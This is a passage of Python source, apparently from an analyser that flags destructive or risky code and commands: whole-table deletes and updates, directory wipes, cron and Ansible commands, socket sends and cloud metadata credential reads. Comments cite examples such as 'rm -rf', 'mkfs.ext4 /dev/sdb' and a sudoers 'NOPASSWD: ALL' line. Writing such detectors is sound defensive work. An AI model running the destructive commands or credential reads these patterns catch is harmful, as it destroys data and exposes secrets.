        "self",
        "this",
        "app",
        "redis",
        "r",
        "mongo",
        "es",
        "tx",
        "trx",
        "knex",
        "prisma",
        "sequelize",
        "engine",
        "pool",
        "c",
        "cli",
        "boto3",
        "resource",
        "res",
        "obj",
    }
)
_TABLE_DELETES: Final = frozenset(
    {
        "sqlalchemy.delete",
        "sqlalchemy.update",
        "sqlalchemy.sql.delete",
        "sqlalchemy.sql.update",
        "sqlalchemy.sql.expression.delete",
        "sa.delete",
        "sa.update",
        "db.delete",
        "tx.delete",
        "trx.delete",
        "db.update",
    }
)


# An object of options that say how to delete, never which records (`{force:true}`).
_OPTIONS_ONLY: Final = re.compile(
    r"\{(?:(?:force|recursive|cascade|confirm|quiet|verbose|permanent|hard)"
    r":(?:true|false|!0|!1|1|0),?){1,6}\}"
)
# A model's or schema's name alone (`User`, `MyApp.Accounts.User`): every row of its table.
_SCHEMA_NAME: Final = re.compile(r"(?:[A-Z]\w{0,63}\.){0,6}[A-Z]\w{0,63}")
_WHOLE_SET_SUFFIXES: Final = (".tolist()", ".toarray()", ".asenumerable()", ".all()")


def _whole_set_given(call: code.Call) -> bool:
    """A deletion handed a whole table: Ecto's `Repo.delete_all(User)` (a schema's name), EF
    Core's `db.Orders.RemoveRange(db.Orders)` (the set it is called on, maybe listed)."""
    arg = "".join(call.argtext.split()) or (call.refs[0] if len(call.refs) == 1 else "")
    if call.chain.lower().endswith("repo.delete_all") and _SCHEMA_NAME.fullmatch(arg):
        return True
    recv = call.chain.rpartition(".")[0].lower()
    low = arg.lower()
    for suffix in _WHOLE_SET_SUFFIXES:
        low = low.removesuffix(suffix)
    return bool(recv) and low == recv


_MEMORY_DB: Final = Gated(r"sqlite:(?://)?/?:memory:|sqlite://['\"]|\(\s*['\"]:memory:['\"]")
_PROD_WORD: Final = re.compile(r"(?i)(?<![a-z0-9])(?:prod|production|prd)(?![a-z0-9])")
_JS_EACH: Final = re.compile(
    r"\b(\w+)(?:\.docs)?\.forEach\(\s*(?:async\s*)?\(?\s*(\w+)\s*\)?\s*=>\s*\{?\s*"
    r"(?:await\s+)?\2\.[\w.]{0,80}?(\w{1,40})\s*\("
)


_JS_DECLARED: Final = re.compile(r"\b(?:const|let|var)\s+(\w+)\s*=\s*(?:await\s+)?([^;\n]{1,300})")


def _each_js(sn: code.Snippet, text: str) -> None:
    """`const snap = await db.collection("x").get(); snap.forEach(d => d.ref.delete())`: the
    call on each item is recorded as made on the listing (`each`), as for a Python loop."""
    declared: dict[str, str] = {}  # name -> what it is assigned (read once, lazily)
    seen: set[tuple[str, str]] = set()
    for m in _JS_EACH.finditer(text[:8192]):
        listing, method = m.group(1), m.group(3)
        if (listing, method) in seen:
            continue
        seen.add((listing, method))
        _each_item(sn, _assigned_calls(listing, text, declared), method)


def _each_item(sn: code.Snippet, listing: list[code.Call], method: str) -> None:
    """`method` called on each item of a listing (the calls that make it, its longest chain
    the listing itself), recorded as made on the listing (`each`)."""
    if listing and method:
        over = max(listing, key=lambda c: len(c.chain)).chain
        sn.calls.append(code.Call(f"{over}().{method}", each=True))


# Java's and C#'s loops over a listing (`for (Blob b : storage.list("x").iterateAll()) {
# b.delete(); }`, `foreach (var f in dir.GetFiles()) f.Delete();`)
_TYPED_EACH: Final = re.compile(
    r"\bfor(?:each)?(?:\s+await)?\s*\(\s*(?:final\s+)?[\w<>.?,\[\] ]{1,120}?\s(\w+)\s*"
    r"(?::|\bin\b|\bof\b)\s*"
    r"((?:[^()]|\([^()]*\)){1,300})\)\s*\{?\s*(?:await\s+)?\1\.[\w.]{0,80}?(\w{1,40})\s*\("
)


# A typed loop (Java's `for (T x : listing) {`, C#'s `foreach (var x in listing) {`): the item's
# name and the listing (two levels of parentheses: `paginator(r -> r.id("x")).items()`).
_TYPED_LOOP: Final = re.compile(
    r"\bfor(?:each)?(?:\s+await)?\s*\(\s*(?:final\s+)?[\w<>.?,\[\] ]{1,120}?\s(\w+)\s*"
    r"(?::|\bin\b|\bof\b)\s*"
    r"((?:[^()]|\((?:[^()]|\([^()]{0,200}\)){0,100}\)){1,300})\)\s*\{"
)

# a condition in a loop's body (`if (s.created() < cutoff)`): it picks some items
_LOOP_CONDITION: Final = re.compile(r"\b(?:if|when|switch|match|filter)\b\s*[(!\w]")


# Ruby's block over a listing: the receiver (dotted steps, with or without arguments), the
# iterator and its arguments, then a block whose first statement calls a method of its item
# (`{ |o| o.destroy }`, `do |o| o.destroy! end`) or a method given as a symbol (`(&:destroy)`).
_RUBY_EACH: Final = re.compile(
    r"(?<![\w.:])([A-Za-z_][\w:]{0,80}(?:\.\w{1,60}[!?]?(?:\((?:[^()]|\([^()]{0,100}\)){0,200}\))?)"
    r"{0,8})\.(\w{1,30})[ \t]*(\([^()&]{0,200}\))?[ \t]*"
    r"(?:\{[ \t]*\|[ \t]*(\w+)[ \t]*\|\s*\4\.(\w{1,40})"
    r"|do[ \t]*\|[ \t]*(\w+)[ \t]*\|\s*\6\.(\w{1,40})"
    r"|\([ \t]*&:(\w{1,40})[!?]?[ \t]*\))"
)


def _each_ruby(sn: code.Snippet, text: str, cat: CodeCalls) -> None:
    """Ruby's iterators (`code.each_iterators`: `Order.find_each { |o| o.destroy }`,
    `Order.all.each do |o| o.destroy end`, `Order.all.each(&:destroy)`): the method called on
    each item is recorded as made on the listing (`each`), as for a Python loop, so the steps
    before it (`where(…)`) are judged as filters."""
    for n, m in enumerate(_RUBY_EACH.finditer(text[:8192])):
        if n >= 64:
            break
        if not cat.hit("each_iterators", m.group(2).lower()):
            continue
        method = m.group(5) or m.group(7) or m.group(8) or ""
        listing = _RUBY_BARE_CALL.sub(r"\1()", m.group(1)).replace("::", ".")
        listing += f".{m.group(2)}{m.group(3) or '()'}"
        _each_item(sn, code.scan_calls(listing, "js").calls, method)


def _block_body(text: str, start: int) -> str:
    """A block's text from just past its `{` to its own `}` (at most 400 characters), inner
    blocks and object literals included (`delete({ where: { id: c.id } })`)."""
    depth = 0
    end = min(len(text), start + 400)
    for i in range(start, end):
        ch = text[i]
        if ch == "{":
            depth += 1
        elif ch == "}":
            if depth == 0:
                return text[start:i]
            depth -= 1
    return text[start:end]


def _listing_calls(listing: str, text: str, declared: dict[str, str]) -> list[code.Call]:
    """The calls a loop's listing makes: its own, or those of what the name it is was assigned
    (`_assigned_calls`)."""
    rhs = code.scan_calls(listing, "js").calls
    name = listing.strip()
    if rhs or not name.isidentifier():
        return rhs
    return _assigned_calls(name, text, declared)


def _assigned_calls(name: str, text: str, declared: dict[str, str]) -> list[code.Call]:
    """The calls of what `name` was assigned in the snippet (`const snap = await
    db.collection("x").get()`); `declared` is filled from its declarations on first need."""
    if not declared:
        for d in _JS_DECLARED.finditer(text[:65536]):
            declared.setdefault(d.group(1), d.group(2))
        declared.setdefault("", "")  # read once, even when nothing is declared
    assigned = declared.get(name)
    return code.scan_calls(assigned, "js").calls if assigned else []


def _each_typed(sn: code.Snippet, text: str, cat: CodeCalls) -> None:
    """The call made on each item of a typed loop's listing, recorded as made on the listing
    (`each`), as for a Python or JavaScript loop: a method of the item (`b.delete()`), or a
    client's deletion given the item (`rds.deleteDBSnapshot(r -> r.id(s.id()))`). A listing
    held in a name is what the name was assigned (`const docs = await Customer.find({}); for
    (const d of docs) {`)."""
    declared: dict[str, str] = {}
    for m in _TYPED_EACH.finditer(text[:8192]):
        _each_item(sn, _listing_calls(m.group(2), text, declared), m.group(3))
    for m in _TYPED_LOOP.finditer(text[:8192]):
        item = re.compile(rf"\b{m.group(1)}\b")
        rhs = _listing_calls(m.group(2), text, declared)
        body = _block_body(text, m.end())
        if not rhs or not item.search(body) or _LOOP_CONDITION.search(body):
            continue  # (a condition in the loop picks some items: `if (s.created() < cutoff)`)
        over = max(rhs, key=lambda c: len(c.chain)).chain
        for call in code.scan_calls(body, "js").calls:
            recv, _, name = call.chain.rpartition(".")
            if (
                recv
                and item.match(recv) is None
                and cat.hit("delete_each", name.lower())
                and item.search(call.argtext)
            ):
                sn.calls.append(code.Call(f"{over}().{name}", each=True))
                break


_FILTER_KWARGS: Final = frozenset(
    {
        "prefix",
        "filter",
        "filters",
        "filterexpression",
        "keyconditionexpression",
        "where",
        "query",
        "q",
        "search",
        "status",
        "since",
        "until",
        "before",
        "after",
        "created",
        "ids",
        "id",
    }
)


def _emptied_target(call: code.Call, by_chain: dict[str, code.Call], truncates: bool) -> str | None:
    """The path a call empties — `truncates` (`code.empty_file`), or a `code.write_whole` call
    given nothing to write: "" when not a literal (a loop's item), None when it empties none."""
    if not truncates and call.chain.lower().endswith("open().close"):  # `open(p, "w").close()`
        opened = by_chain.get(call.chain[: -len("().close")])
        if opened is None or len(opened.args) < 2 or "w" not in opened.args[1]:
            return None
        return opened.args[0]
    if truncates or call.empty_arg:
        return call.args[0] if call.args and call.args[0] else call.recv
    return None


def _walked_root(
    sn: code.Snippet, cat: CodeCalls, by_chain: dict[str, code.Call], text: str
) -> str:
    """The root a snippet's listing walks (`code.walk`): its literal argument, the path the
    walked object was made from (`Path("/srv/data").rglob("*")`), or a name bound to a string
    (`const dir = '/srv/data'; fs.readdirSync(dir, …)`)."""
    for c in sn.calls[:64]:
        if not cat.hit("walk", c.chain.lower()):
            continue
        if "()." in c.chain:  # a listing of a path object: the path it was made from
            base = by_chain.get(c.chain.rsplit("().", 1)[0])
            if base is not None and base.args and base.args[0]:
                return base.args[0]
        if c.args and c.args[0]:
            return c.args[0]
        m = code.NAME_TOKEN.match(c.argtext.lstrip())
        if m is not None and sn.language != "python":
            bound = code.bindings(text).get(m.group(0))
            if bound is not None and not bound.maker and bound.literals:
                return bound.literals[0]
    return ""


def _pages_only(call: code.Call, cat: CodeCalls) -> bool:
    """A listing call given nothing that narrows it: only the size of its pages
    (`code.page_sizes`: `Product.find(limit=250)`, `tickets(per_page=100)`) or an empty filter
    (`Customer.find({})`)."""
    if call.empty_first:
        return call.nargs == 1
    return (
        not call.args
        and bool(call.kwargs)
        and call.nargs == len(call.kwargs)
        and all(cat.hit("page_sizes", k.lower()) for k in call.kwargs)
    )


def _every(call: code.Call, cat: CodeCalls, by_chain: dict[str, code.Call]) -> bool:
    """A loop's listing (`db.collection("x").stream()`, `Customer.list().auto_paging_iter()`)
    takes every record unless a step narrows it: a filter with arguments, any later call with
    arguments (but a constructor's, which names the collection), or a first call given a filter
    keyword (`list_objects(Prefix=…)`)."""
    steps = call.chain.split(".")[:-1]
    prefix = ""
    named = False  # the first call given arguments names the collection (`collection("x")`)
    for s in steps:
        prefix = f"{prefix}.{s}" if prefix else s
        if not s.endswith("()"):
            continue
        inner = by_chain.get(prefix[:-2])
        if inner is not None and (inner.nargs or inner.args):
            if _pages_only(inner, cat):
                continue  # `find(limit=250)`, `find({})`: the whole listing, a page at a time
            if (
                cat.hit("filters", s[:-2].lower())
                or {k.lower() for k in inner.kwargs} & _FILTER_KWARGS
            ):
                return False
            if (
                inner.kwargs
                and not inner.args
                and {k.lower() for k in inner.kwargs} <= _NAMING_KWARGS
            ):
                continue  # `list_objects_v2(Bucket="b")`: which collection, not which items
            if named and not s[:1].isupper():
                return False  # a constructor (`resource("s3").Bucket("b")`) names it too
            named = True
    return bool(steps)


# Keywords of a listing call that name the collection listed, not a subset of it.
_NAMING_KWARGS: Final = frozenset({"bucket", "tablename", "table", "table_name", "collection",
                           "index", "namespace", "container", "container_name", "queueurl",
                           "queue_url", "database", "dataset", "project", "streamname",
                           "repositoryname", "registryid", "clusterid", "region"})  # fmt: skip


def _narrowed_receiver(call: code.Call, cat: CodeCalls, by_chain: dict[str, code.Call]) -> bool:
    """`bucket("b").blob("tmp/x.json").delete()`: called on one item picked by a filter."""
    recv = call.chain.rsplit(".", 1)[0] if "." in call.chain else ""
    if not recv.endswith("()") or not cat.hit("filters", recv[:-2].rsplit(".", 1)[-1].lower()):
        return False
    inner = by_chain.get(recv[:-2])
    return inner is not None and bool(inner.nargs or inner.args)


def _overwrites_all(
    call: code.Call, cat: CodeCalls, by_chain: dict[str, code.Call], calls: list[code.Call]
) -> bool:
    """An update of a whole table or collection: `X.objects.update(…)`, `query(X).update(…)`,
    `update(X).values(…)` never followed by `.where(…)`, `Model.update(…).execute()`,
    `prisma.x.updateMany({data})`, `Model.update(v, {where: {}})`."""
    arg = "".join(call.argtext.split()).lower()
    if "where:{}" in arg:
        return True
    if "where" in arg or {k.lower() for k in call.kwargs} & {"where", "filter"}:
        return False
    steps = [s for s in call.chain.split(".") if s]
    prefix = ""
    for s in steps[:-1]:
        prefix = f"{prefix}.{s}" if prefix else s
        if s.endswith("()") and cat.hit("filters", s[:-2].lower()):
            inner = by_chain.get(prefix[:-2])
            if inner is None or inner.nargs or inner.args:
                return False
    later = call.chain + "()."
    for other in calls:
        if other.chain.startswith(later) and cat.hit("filters", other.name.lower()):
            return False
    low = steps[:-1]
    if not low:
        # `update(Account).values(balance=0)`: a statement over the whole table
        return call.nargs == 1 and any(o.chain.startswith(later + "values") for o in calls)
    return (
        call.chain.lower() in _TABLE_DELETES
        or any(s[:1].isupper() and not s.endswith("()") for s in low)
        or "objects" in low
        or any(
            s.endswith("()") and s[:-2].lower() in ("all", "query", "table", "collection", "model")
            for s in low
        )
        or (low[0].lower() in ("prisma", "tx") and len(steps) >= 3)
    )


def _built_argv(builder: code.Call, calls: list[code.Call]) -> list[str]:
    """The command a process builder makes: its program, then the words of the `.arg(…)` and
    `.args([…])` calls chained on it, in order (`Command::new("rm").args(["-rf", p])`)."""
    argv = [builder.args[0]]
    chain = builder.chain + "()."
    after = next((i for i, call in enumerate(calls) if call is builder), len(calls))
    for call in calls[after + 1 : after + 65]:  # its words follow it closely
        if call.chain == builder.chain or len(argv) >= 64:
            break  # the next builder's words are its own
        if not call.chain.startswith(chain):
            continue
        last = call.chain.rsplit(".", 1)[-1].lower()
        if last == "arg" and call.args:
            argv.append(call.args[0])
        elif last == "args" and call.args:
            argv.extend(call.args[0].split())
    return argv


def _replaces(call: code.Call, by_chain: dict[str, code.Call]) -> bool:
    """`to_sql(…, if_exists="replace")`, `.mode("overwrite").saveAsTable(…)`."""
    if any(
        k.lower() in ("if_exists", "if_table_exists", "mode")
        and v.lower() in ("replace", "overwrite")
        for k, v in call.kwargs.items()
    ):
        return True
    if call.kwargs.get("overwrite", "").lower() == "true":
        return True
    steps = call.chain.split(".")[:-1]
    prefix = ""
    for s in steps:
        prefix = f"{prefix}.{s}" if prefix else s
        if s.lower() == "mode()":
            inner = by_chain.get(prefix[:-2])
            if inner is not None and any(a.lower() == "overwrite" for a in inner.args):
                return True
    return False


def _when(cat: CodeCalls, key: str, name: str, call: code.Call) -> str | None:
    """The explanation of a `<key>` entry (`destroy_when`, `weaken_when`) whose call and
    argument text (or keyword arguments) match; None when no entry names the call."""
    arg = "".join(call.argtext.split()).lower()
    kw = ",".join(f"{k}={v}" for k, v in call.kwargs.items()).lower()
    named = False
    for spec in cat.spec.get(key) or ():
        if str(spec.get("call", "")).lower() != name:
            continue
        named = True
        args = [str(a).lower() for a in spec.get("args") or ()]
        if not args or any(a in arg or a in kw for a in args):
            return str(spec.get("explain") or "weakens security")
    return "" if named else None


def _when_text(cat: CodeCalls, key: str, name: str, flat: str) -> str:
    """A `weaken_texts` entry: the call appears with one of its texts anywhere in the snippet
    (a policy built beside the call: `Policy=json.dumps({"Principal": "*", …})`), and none of
    its `unless` texts (a listing narrowed by `Prefix=`)."""
    for spec in cat.spec.get(key) or ():
        if (
            str(spec.get("call", "")).lower() == name
            and any(str(x).lower() in flat for x in spec.get("texts") or ())
            and not any(str(x).lower() in flat for x in spec.get("unless") or ())
        ):
            return str(spec.get("explain") or "weakens security")
    return ""


def _destroy_when(cat: CodeCalls, name: str, call: code.Call) -> str:
    """The explanation of a `destroy_when` entry whose call and argument text match."""
    arg = "".join(call.argtext.split()).lower()
    if not arg and call.kwargs:
        arg = ",".join(f"{k}={v}" for k, v in call.kwargs.items()).lower()
    for spec in cat.spec.get("destroy_when") or ():
        if (
            str(spec.get("call", "")).lower() == name
            and any(str(a).lower() in arg for a in spec.get("args") or ())
            and (any(str(a).lower() == arg for a in spec.get("args") or ()) or len(arg) > 2)
        ):
            return str(spec.get("explain") or "deletes every record")
    return ""


def _amount_of(call: code.Call) -> float | None:
    for key in ("amount", "value", "total", "sum"):
        raw = call.kwargs.get(key)
        if raw:
            try:
                return float(raw)
            except ValueError:
                return None
    # an object literal's field (`payouts.create({ amount: 5000000, currency: 'usd' })`)
    m = _OBJECT_AMOUNT.search(call.argtext) if "mount" in call.argtext else None
    return float(m.group(1)) if m is not None else None


_OBJECT_AMOUNT: Final = re.compile(r"\bamount[\"']?\s*:\s*(\d{1,15}(?:\.\d{1,4})?)\b")


def _octal(mode: str) -> str:
    m = mode.lower().replace("0o", "")
    return m if m.isdigit() else mode


# a method called on something (`a.b(`, `A::B(`, `$x->y(`): searched from the separator, so the
# cost stays linear on a long dotted word without a call (`a.a.a.a…`)
_METHOD_CALL: Final = re.compile(r"(?:::|\.|->)[A-Za-z_]\w*[!?]?\s*\(")
# `name("…`, `name('…`, Julia's command literal `run(`…`)`
_QUOTED_CALL: Final = re.compile(r"\b[A-Za-z_]\w{0,63}\(\s*[\"'`]")
_SQL_OPTIONS: Final = frozenset(
    ["c", "e", "q", "command", "sql", "query", "execute", "statement", "stmt", "sql-query"]
)


def _module_runs_commands(spec: Mapping[str, Any], argv: list[str]) -> bool:
    """Whether a runner's `flag` carries a command: always, unless the spec lists its
    `command_modules` and the call names another module (`-m ping`, `-m setup`)."""
    command_modules = spec.get("command_modules")
    module = _value_after(argv, (str(spec.get("module_flag", "")).lower(),))
    # no module named: the runner's default one runs the command
    return not command_modules or module is None or module.lower() in command_modules


def _module_command(spec: Mapping[str, Any], argv: list[str]) -> str:
    """The command a runner's module does on each host, by the table's `modules` (`ansible all
    -m file -a 'path=/srv/data state=absent'` -> `rm -r -f /srv/data`): the module named after
    `module_flag`, when its `key=value` arguments (after `flag`) hold every pair of `when`; the
    template's `{key}` taken from them. "" when no module entry applies."""
    modules = spec.get("modules")
    if not modules:
        return ""
    pairs: dict[str, str] = {}
    if "module_at" in spec:
        # `puppet resource file /etc/x ensure=present content='…'`: a module, its title, then
        # `key=value` words; values shell-quoted, as the template's words
        runner = len(str(spec.get("runner", "")).split()) or 1
        words = [a for a in argv[runner:] if not a.startswith("-")]
        at = int(spec["module_at"])
        name = words[at] if at < len(words) else ""
        rest = words[at + 1 :]
        if rest and "=" not in rest[0]:
            pairs["title"] = shlex.quote(rest[0])
        for part in rest:
            key, eq, value = part.partition("=")
            if eq:
                pairs[key.lower()] = shlex.quote(value)
    else:
        name = _value_after(argv, (str(spec.get("module_flag", "")).lower(),)) or ""
        args = _value_after(argv, (str(spec.get("flag", "")).lower(),)) or ""
        try:  # `line='deploy ALL=(ALL) NOPASSWD: ALL'`: a quoted value is one word
            parts = shlex.split(args[:4096])
        except ValueError:
            parts = args.split()
        for part in parts:
            key, eq, value = part.partition("=")
            if eq:
                pairs[key.lower()] = shlex.quote(value) if " " in value else value
    for entry in modules.get(name.lower()) or ():
        when = (entry.get("when") or {}).items()
        if all(pairs.get(str(k), "").strip("'") == str(v) for k, v in when):
            try:
                return str(entry["run"]).format(**pairs)
            except (KeyError, IndexError, ValueError):
                continue  # the template names an argument this call does not give
    return ""


def _runs_code(t: EffectTable, line: str) -> bool:
    """A line of a shell or an interpreter: it may hold code (`bash -c 'node -e "…"'`)."""
    prog = program_name(line.split(None, 1)[0])
    return prog in t.interpreters or prog in t.shells


def _execs_program(t: EffectTable, value: str) -> bool:
    """`exec mkfs.ext4 /dev/sdb`: the shell's `exec` of a program the table knows, not T-SQL's
    `EXEC procedure`."""
    head = value.lstrip().split(None, 2)
    return len(head) > 1 and head[0].lower() == "exec" and t.knows(program_name(head[1]))


def _records_method(cat: CodeCalls, chain: str, name: str) -> bool:
    """`redis.del(key)`, `knex("t").del()`: a method named as a bare entry of `delete_tree`
    (the npm package `del`, called as itself) but called on an object, whose records it deletes
    (`delete_records`) — not a file tree."""
    if "." not in chain or not cat.hit("delete_records", name):
        return False
    exact = cat.names("delete_tree")
    if chain in exact:
        return False
    i = chain.find(".")
    while i >= 0:
        tail = chain[i + 1 :]
        if tail != name and tail in exact:
            return False  # `fse.remove`, `directory.delete`: named whole
        i = chain.find(".", i + 1)
    return True


def _sql_first(value: str) -> bool:
    head = value.lstrip(" \t\r\n(").split(None, 1)
    if not head:
        return False
    word = head[0].lower().rstrip(";")
    if word.startswith("--") or word.startswith("/*"):
        return True
    return word in sqlx.STATEMENT_WORDS


# AppleScript: `tell application "Mail" to …` runs one statement; statements that only read or
# assign (`tell application "Mail"` opening a block and `end tell` among them).
_APPLESCRIPT_TELL_TO: Final = re.compile(r'\s*tell\s+(?:application|app)\s+"[^"]{1,64}"\s+to\s+')
_APPLESCRIPT_READS: Final = frozenset(
    {"get", "count", "exists", "return", "log", "set", "copy", "if", "else", "end", "repeat",
     "on", "try", "property", "local", "global", "tell", "activate", "--", "#"}
)  # fmt: skip
_EVERY: Final = re.compile(r"\bevery\b")
_APPLESCRIPT_HEAD: Final = re.compile(r'(?i)\s*tell\s+(?:application|app)\s+"')
# A Git remote on another machine: a URL (not `file://`) or scp's `user@host:path`.
_GIT_NETWORK_URL: Final = re.compile(r"(?i)(?!file://)[a-z][a-z0-9+.-]*://|[\w.-]+@[\w.-]+:")
_SCP_URL: Final = re.compile(r"^([\w.-]+@[\w.-]+):(?!//)")
_SELECTS: Final = re.compile(r"(?i)\bselect\b")
_SQL_LITERAL: Final = re.compile(r"'([^']{0,256})'")
_GATE_MAX: Final = 2048  # longer texts are parsed (a truncated parse is reported as partial)
_GATE_OPAQUE: Final = re.compile(
    r"[\"'\\$`%{]"
)  # quoting, escapes, expansions: only the parser knows
_GATE_SEPARATORS: Final = re.compile(r"[;|&<>()]+")


def _may_name_program(t: EffectTable, text: str) -> bool:
    """Whether a text under a key that says nothing can hold a command at all: one of its words
    is a known program, a cmdlet or a path. A necessary condition of `_commandlike`, checked on
    plain text without parsing it (texts with quotes, escapes or expansions are parsed)."""
    if len(text) > _GATE_MAX or _GATE_OPAQUE.search(text):
        return True
    # each word, and each part of a word between separators (`a;rm`, `(cd`)
    words = text.split()
    if _GATE_SEPARATORS.search(text) is not None:
        words += _GATE_SEPARATORS.sub(" ", text).split()
    for word in words:
        if word.startswith(("./", "/")):
            return True
        prog = program_name(word)
        if t.knows(prog) or is_cmdlet(t, prog):
            return True
    return False


# A command's plain argument (a name, `key=value`, a path), not a word of prose (`desk:`, `3pm,`)
# programs that act with no argument at all, recognised alone under a key that says nothing
_ALONE_COMMANDS: Final = frozenset(
    {"env", "printenv", "history", "reboot", "shutdown", "halt", "poweroff"}
)
_ARG_WORD: Final = re.compile(r"[\w@.=/-]*[\w=]")
# One word of letters, digits and `@ , : + / ~ # -`: an id, a date, a number, a path
_BARE_WORD: Final = re.compile(r"[\w@,:+/~#-]{1,256}")
_BARE_WORD_BYTES: Final = b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_@,:+/~#-"


def _bare_word(value: str) -> bool:
    """`_BARE_WORD.fullmatch(value)`, in C for ASCII text (nothing left once its characters go)."""
    if value.isascii():
        return 1 <= len(value) <= 256 and ascii_count(value, _BARE_WORD_BYTES) == len(value)
    return _BARE_WORD.fullmatch(value) is not None


def _mongo_reads_only(sn: code.Snippet, text: str, cat: CodeCalls) -> bool:
    """A Mongo shell line that only reads: every call on `db.…` and one of `mongo_reads`."""
    if "$out" in text or "$merge" in text:
        return False
    return all(
        c.chain.lower().startswith("db.") and cat.hit("mongo_reads", c.name.lower())
        for c in sn.calls
    )


def _inert_word(t: EffectTable, value: str) -> bool:
    """A value under a key that says nothing, that no reader of `Analyser.text` can take: one
    bare word (Cypher, GraphQL, notebook and cron lines, calls and command lines with arguments
    all need a space, a quote, a bracket, an operator or a sigil; Python needs a dot or one of
    those), not a JavaScript reference, not a statement word, and not a program or path that a
    command line of one word could be."""
    if not _bare_word(value) or value.startswith(("/", "./")):
        return False
    prog = program_name(value)
    return not (
        t.knows(prog) or is_cmdlet(t, prog) or _sql_first(value) or code.looks_like_js(value)
    )


def _distinct_program(prog: str) -> bool:
    """Program names that are not everyday words (so `kill switch` stays prose)."""
    return prog not in _ENGLISH


# `m h dom mon dow command` (a field: numbers, `*`, steps, ranges, lists, or month/day names)
# or `@reboot command`; a line counts only when a `*` or `@` shows it is a schedule
_CRON_FIELD: Final = r"(?:[\d*][\d*/,\-]*|[A-Za-z]{3}(?:[-,][A-Za-z]{3})*)"
_CRON_LINE: Final = re.compile(
    r"\s*(?:@(?:reboot|yearly|annually|monthly|weekly|daily|midnight|hourly)"
    rf"|(?:{_CRON_FIELD}[ \t]+){{4}}{_CRON_FIELD})[ \t]+(\S.*)",
    re.S,
)
_CRON_FIRST: Final = frozenset("@*0123456789 \t")
_USER_NAME: Final = re.compile(r"[a-z_][a-z0-9_-]{0,31}")

# One line whose first word is shaped like a program the table does not know — a script file
# (`kcadm.sh`, `purge.py`) or a name ending as command-line tools' names do (`nexusctl`,
# `rabbitmqadmin`, `vaultadm`, `acme-cli`) — then its words (`kcadm.sh delete realms/x`).
_SHAPED_PROGRAM_LINE: Final = re.compile(
    r"[a-z][\w.-]{0,40}(?:\.(?:sh|bash|py|pl|rb|ps1|bat|cmd)|[a-z](?:ctl|adm|admin|-cli))"
    r"[ \t]+[a-z][^\n]{0,400}$"
)
# a single line: a program-shaped first word, then a flag (`-x`, `--name`) somewhere
_FLAGGED_LINE: Final = re.compile(
    r"[a-z][\w.-]{1,40}[ \t][^\n]{0,400}?(?<=\s)--?[a-z][^\n]{0,400}$"
)


# A request's host given as an option (`{host: 'x.org'}`, `hostname="x.org"`).
_HOST_OPTION: Final = re.compile(
    r"""\b(?:host|hostname)["']?\s*[:=]\s*["']([A-Za-z0-9.-]{1,253})["']"""
)
# A connection whose host its constructor names, then sent through (Python's `http.client`,
# `ftplib`, paramiko's `Transport((host, 22))`, pysftp's `Connection(host)`), or a login
# connection's host (`ssh.connect("h", username=…)`): where its `request`/`storbinary`/`put` goes.
_CONNECTION_HOST: Final = re.compile(
    r"""\b(?:(?:HTTPS?Connection|FTP(?:_TLS)?|Transport|Connection)\(\s*\(?\s*"""
    r"""(?:host(?:name)?\s*=\s*)?["']([A-Za-z0-9.-]{1,253})["']"""
    r"""|connect\(\s*(?:hostname\s*=\s*)?["']([A-Za-z0-9.-]{1,253})["']\s*,\s*"""
    r"""(?:\d|port|username|user|pkey|key_filename|password))"""
)
_FILE_DBS: Final = frozenset({"sqlite3", "sqlite", "duckdb"})
# calls that write a table's rows to the file they name (pandas, NumPy)
_TABLE_WRITERS: Final = frozenset(
    {"to_csv", "to_json", "to_excel", "to_parquet", "to_html", "to_xml", "to_pickle",
     "to_feather", "savetxt"}
)  # fmt: skip
# a dumper's options that name what it dumps (`pg_dump -t customers`, `mongoexport -c users`)
_DUMPED_OBJECT_FLAGS: Final = frozenset(
    {"-t", "--table", "-c", "--collection", "-d", "--db", "--dbname", "--tables"}
)


def _scratch_db(t: EffectTable, argv: list[str]) -> bool:
    """Whether an embedded database's file (its first positional word) is a test's or scratch
    one: `:memory:`, `test.db`, `/tmp/x.db`, `fixtures/app.sqlite`."""
    db = next((a for a in argv[1:] if not a.startswith("-")), "")
    if db == ":memory:" or db.startswith(("/tmp/", "/var/tmp/")):
        return True
    words = set(NOT_ALNUM_RUN.split(db.lower()))
    return bool(words & t.scratch_db_words)


def _find_name(argv: list[str]) -> str:
    """The pattern of `find`'s first `-name`/`-iname` (quotes removed), or ""."""
    for k in range(1, len(argv) - 1):
        if argv[k].lower() in ("-name", "-iname"):
            return argv[k + 1].strip("'\"")
    return ""


_METADATA_HINT: Final = Gated(r"169\.254\.|100\.100\.100|metadata|credentials_relative")
_SOCKET_SEND: Final = frozenset({"send", "sendall", "sendto", "write", "sendfile", "end"})
# the host a socket connects to: `create_connection(("h", 443))`, `connect(("h", 443))`,
# Node's `net.connect(443, "h")`
_CONNECT_TO: Final = re.compile(
    r"\b(?:create_connection|connect|connect_ex|createConnection)\(\s*(?:\(\s*|\d{1,5}\s*,\s*)"
    r"[\"']([A-Za-z0-9.-]{1,253})[\"']"
)

_NEW_ARRAY: Final = re.compile(r"\bnew\s+[Ss]tring\s*\[\s*\]\s*\{([^{}()]{0,4096})\}")
_RAW_ARGS_SHELLS: Final = frozenset({"cmd", "cmd.exe", "powershell", "powershell.exe", "pwsh"})

_NULL_COMMANDS: Final = frozenset([":", "true"])

_ENGLISH: Final = frozenset(
    [
        # a network device's words (effects.yaml): commands there, verbs in a sentence
        "write",
        "show",
        "display",
        "include",
        "exclude",
        "begin",
        "section",
        "request",
        "execute",
        "system",
        "transport",
        "no",
        "find",
        "kill",
        "format",
        "shred",
        "truncate",
        "at",
        "batch",
        "time",
        "watch",
        "sort",
        "cut",
        "head",
        "tail",
        "more",
        "less",
        "type",
        "file",
        "test",
        "date",
        "free",
        "top",
        "who",
        "last",
        "help",
        "man",
        "make",
        "install",
        "open",
        "start",
        "stop",
        "set",
        "call",
        "copy",
        "move",
        "del",
        "erase",
        "mail",
        "host",
        "ping",
        "dig",
        "drop",
        "delete",
        "remove",
        "clear",
        "empty",
        "flush",
        "prune",
        "reset",
        "purge",
        "wipe",
        "export",
        "source",
        "exec",
        "eval",
        "read",
        "wait",
        "join",
        "paste",
        "split",
        "tr",
        "look",
        "history",
        "alias",
        "unset",
        "shutdown",
        "reboot",
        "halt",
        "init",
        "service",
        "net",
        "sc",
        "reg",
        "print",
        "fetch",
        "http",
        "https",
        "pass",
        "op",
        "bw",
        "lpass",
        "security",
        "mc",
        "sam",
        "kind",
        "cf",
        "fly",
        "render",
